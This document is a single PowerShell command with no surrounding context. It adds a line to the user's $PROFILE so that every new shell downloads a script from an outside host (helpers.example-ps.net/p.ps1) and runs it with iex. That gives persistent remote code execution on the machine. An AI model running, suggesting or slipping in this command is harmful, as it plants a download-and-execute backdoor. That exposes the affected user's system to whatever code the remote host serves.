Add-Content -Path $PROFILE -Value "iex (New-Object Net.WebClient).DownloadString('https://helpers.example-ps.net/p.ps1')"
